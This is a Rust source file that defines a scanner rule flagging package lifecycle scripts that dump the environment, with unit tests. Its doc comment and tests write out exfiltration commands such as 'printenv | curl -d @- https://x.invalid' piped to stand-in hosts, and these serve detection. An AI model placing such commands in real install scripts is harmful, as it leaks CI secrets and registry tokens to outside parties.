use palisade_diagnostics::{Finding, Severity};

use super::{script_finding, scripts};
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds lifecycle scripts that dump the environment (`env`, `printenv`),
    /// and rates them critical when the same line sends data out
    /// (`env | curl -d @- …`).
    ///
    /// ## Why is this bad?
    /// The environment of an install holds CI secrets and registry tokens.
    /// Nothing an install needs requires printing all of it.
    ///
    /// ## Example
    /// ```json
    /// "scripts": { "preinstall": "printenv | curl -d @- https://x.invalid" }
    /// ```
    ///
    /// ## References
    /// - The 2021–2023 dependency-confusion waves exfiltrated `env` this way.
    InstallScriptEnvDump {
        id: "manifest/install-script-env-dump",
        severity: High,
        status: Stable,
        summary: "A lifecycle script dumps the environment",
    }
}

impl Rule for InstallScriptEnvDump {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for (s, t) in scripts(ctx) {
            if t.env_dump {
                let severity = if t.downloads {
                    Severity::Critical
                } else {
                    Severity::High
                };
                let msg = if t.downloads {
                    format!(
                        "`{}` script sends the environment out: `{}`",
                        s.event, s.command
                    )
                } else {
                    format!(
                        "`{}` script dumps the environment: `{}`",
                        s.event, s.command
                    )
                };
                out.push(
                    script_finding(ctx, Self::META.id, severity, s, msg).with_capability("env"),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&InstallScriptEnvDump::META).test(
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"preinstall":"printenv | curl -d @- http://127.0.0.1:9/"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"env > /tmp/e.txt"}}"#),
            ],
            &[
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"cross-env NODE_ENV=production node x.js"}}"#),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"node env.js"}}"#),
            ],
        );
    }
}
